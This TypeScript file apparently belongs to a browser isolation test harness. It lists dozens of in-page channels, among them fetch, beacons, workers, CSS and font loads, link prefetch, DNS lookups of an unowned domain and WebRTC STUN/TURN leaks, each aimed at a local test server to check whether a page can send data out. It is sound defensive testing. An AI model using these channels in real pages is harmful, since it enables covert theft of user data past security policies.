/** Ways in which a page could send data out. Each runs in the page. */

/** Targets of the ways out. Each way has its own mark in the address, so that an arrival identifies it. */
export interface Outside {
  /** Origin of a web server, `http://127.0.0.1:1234`. */
  readonly web: string
  /** Ports of 127.0.0.1 that listen for STUN and for TURN over TCP. */
  readonly udpPort: number
  readonly tcpPort: number
  /** A domain that nobody owns. A lookup of a name in it leaks data to the name server. */
  readonly domain: string
}

/** Bodies of async functions with `outside`, `url` and `host`, of which the last two are unique to the way. */
const inPage: Readonly<Record<string, string>> = {
  fetch: `await fetch(url, { mode: 'no-cors' })`,
  'fetch keepalive': `await fetch(url, { mode: 'no-cors', keepalive: true })`,
  'fetch later': `fetchLater(url, { activateAfter: 0 })`,
  xhr: `const call = new XMLHttpRequest(); call.open('GET', url); call.send()`,
  beacon: `navigator.sendBeacon(url, 'x')`,
  'event source': `new EventSource(url)`,
  socket: `new WebSocket(url.replace('http', 'ws'))`,
  transport: `new WebTransport(url.replace('http:', 'https:'))`,
  image: `new Image().src = url`,
  srcset: `const img = new Image(); img.srcset = url + ' 1x'; document.body.append(img)`,
  picture: `document.body.insertAdjacentHTML('beforeend', '<picture><source srcset="' + url + '"><img alt=""></picture>')`,
  'image button': `document.body.insertAdjacentHTML('beforeend', '<input type=image src="' + url + '">')`,
  svg: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + url + '"/><use href="' + url + '#x"/></svg>')`,
  video: `document.body.insertAdjacentHTML('beforeend', '<video autoplay src="' + url + '" poster="' + url + '"><track default src="' + url + '"></video>')`,
  audio: `new Audio(url).play().catch(() => 0)`,
  frame: `document.body.insertAdjacentHTML('beforeend', '<iframe src="' + url + '"></iframe>')`,
  'frame in a frame': `const f = document.createElement('iframe'); f.srcdoc = '<img src="' + url + '"><iframe src="' + url + '">'; document.body.append(f)`,
  object: `document.body.insertAdjacentHTML('beforeend', '<object data="' + url + '"></object><embed src="' + url + '">')`,
  script: `const s = document.createElement('script'); s.src = url; document.head.append(s)`,
  module: `await import(url)`,
  worker: `new Worker(url)`,
  'blob worker': `new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '")'], { type: 'text/javascript' })))`,
  'shared worker': `new SharedWorker(url)`,
  'service worker': `await navigator.serviceWorker.register(url)`,
  worklet: `await CSS.paintWorklet?.addModule(url); await new AudioContext().audioWorklet.addModule(url)`,
  'style sheet': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url; document.head.append(l)`,
  'style import': `const s = document.createElement('style'); s.textContent = '@import "' + url + '";'; document.head.append(s)`,
  'style picture': `document.body.style.backgroundImage = 'url(' + url + ')'; document.body.style.cursor = 'url(' + url + '), auto'`,
  font: `const face = new FontFace('x', 'url(' + url + ')'); await face.load()`,
  'font by style': `const s = document.createElement('style'); s.textContent = '@font-face { font-family: y; src: url(' + url + ') } body { font-family: y }'; document.head.append(s)`,
  ...Object.fromEntries(
    [
      ...['prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest', 'apple-touch-icon'],
      ...['preconnect', 'dns-prefetch', 'compression-dictionary', 'alternate stylesheet'],
    ].map((rel) => [
      `link ${rel}`,
      `for (const href of [url, 'https://' + host]) {
        const l = document.createElement('link'); l.rel = '${rel}'; l.as = 'image'; l.href = href; document.head.append(l)
      }`,
    ]),
  ),
  'speculation rules': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }], prerender: [{ urls: [url], eagerness: 'immediate' }] }); document.head.append(s)`,
  ping: `const a = document.createElement('a'); a.href = '#'; a.ping = url; document.body.append(a); a.click()`,
  'attribution source': `document.body.insertAdjacentHTML('beforeend', '<img alt="" attributionsrc="' + url + '">')`,
  form: `document.body.insertAdjacentHTML('beforeend', '<form action="' + url + '" method=post target=_blank></form>'); document.forms[document.forms.length - 1].submit()`,
  refresh: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=' + url + '">')`,
  location: `location.href = url`,
  'link of a download': `const a = document.createElement('a'); a.href = url; a.download = 'x'; document.body.append(a); a.click()`,
  'window.open': `window.open(url); window.open(url, '_self'); window.open(url, 'x', 'popup')`,
  'policy report': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=Content-Security-Policy content="img-src https://none.invalid; report-uri ' + url + '">'); new Image().src = 'http://127.0.0.1:1/'`,
  payment: `await new PaymentRequest([{ supportedMethods: url }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  'identity provider': `await navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'x' }] } })`,
  'ad auction': `await navigator.joinAdInteractionGroup({ owner: 'https://' + host, name: 'x', biddingLogicURL: url }, 1)`,
  presentation: `await new PresentationRequest([url]).getAvailability()`,
  'protocol handler': `navigator.registerProtocolHandler('web+x', url + '?%s')`,
  push: `await (await navigator.serviceWorker.ready).pushManager.subscribe({ userVisibleOnly: true })`,
  clipboard: `await navigator.clipboard.read()`,
  'notification picture': `new Notification('x', { icon: url, image: url })`,
  'media session': `navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: url }] })`,
  'name of a resource': `new Image().src = 'https://' + host + '/'; await fetch('https://' + host + '/')`,
  'drag image': `const data = new DataTransfer(); data.setData('DownloadURL', 'text/plain:x:' + url); document.body.dispatchEvent(new DragEvent('dragstart', { dataTransfer: data, bubbles: true }))`,
  print: `document.body.insertAdjacentHTML('beforeend', '<style media=print>body { background: url(' + url + ') }</style>')`,
  ...Object.fromEntries(
    (['RTCPeerConnection', 'webkitRTCPeerConnection'] as const).map((name) => [
      name,
      `const peer = new window.${name}({ iceServers: [
        { urls: 'stun:127.0.0.1:' + outside.udpPort }, { urls: 'stun:' + host },
        { urls: 'turn:127.0.0.1:' + outside.tcpPort + '?transport=tcp', username: 'x', credential: 'x' } ] })
      peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())
      await new Promise((resolve) => setTimeout(resolve, 1500))`,
    ]),
  ),
}

/** Ways that may end the page: Chromium kills a page's process after a forbidden request. */
const lastInPage: Readonly<Record<string, string>> = {
  'RTCPeerConnection of a frame': `const f = document.createElement('iframe'); document.body.append(f)
    const peer = new f.contentWindow.RTCPeerConnection({ iceServers: [
      { urls: 'stun:127.0.0.1:' + outside.udpPort }, { urls: 'stun:' + host },
      { urls: 'turn:127.0.0.1:' + outside.tcpPort + '?transport=tcp', username: 'x', credential: 'x' } ] })
    peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())
    await new Promise((resolve) => setTimeout(resolve, 1500))`,
}

export interface Recovery {
  readonly name: string
  readonly source: string
  /** The page may be gone afterwards. */
  readonly isLast: boolean
}

const slug = (name: string): string => name.toLowerCase().replace(/[^a-z0-9]+/g, '-')

/** Returns the mark of a way in addresses and names. */
export const markOf = ({ name }: Pick<Recovery, 'name'>): string => `way-${slug(name)}-end`

export const waysOut: readonly Recovery[] = [
  ...Object.entries(inPage).map(([name, source]) => ({ name, source, isLast: false })),
  ...Object.entries(lastInPage).map(([name, source]) => ({ name, source, isLast: true })),
]

/** Returns the way as an expression for a page. It never throws, and takes at most two seconds. */
export const scriptOf = (way: Recovery, outside: Outside): string => {
  const mark = markOf(way)
  const given = JSON.stringify([outside, `${outside.web}/${mark}`, `${mark}.${outside.domain}`])
  return `(async ([outside, url, host]) => {
    const way = async () => { ${way.source} }
    await Promise.race([way().catch(() => 0), new Promise((resolve) => setTimeout(resolve, 2000))])
  })(${given})`
}
